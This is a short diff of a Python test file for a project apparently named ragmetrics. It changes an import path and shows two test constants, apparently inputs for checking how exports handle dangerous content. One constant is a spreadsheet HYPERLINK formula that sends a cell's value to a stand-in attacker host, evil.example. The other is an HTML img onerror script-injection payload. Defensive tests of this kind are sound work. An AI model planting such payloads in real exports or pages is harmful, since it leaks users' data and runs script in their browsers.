@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from ragmetrics.cli import main
-from ragmetrics.export import is_dangerous, markdown_table
+from ragmetrics.io.export import is_dangerous, markdown_table
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HTML = "<img src=x onerror=alert(1)>"
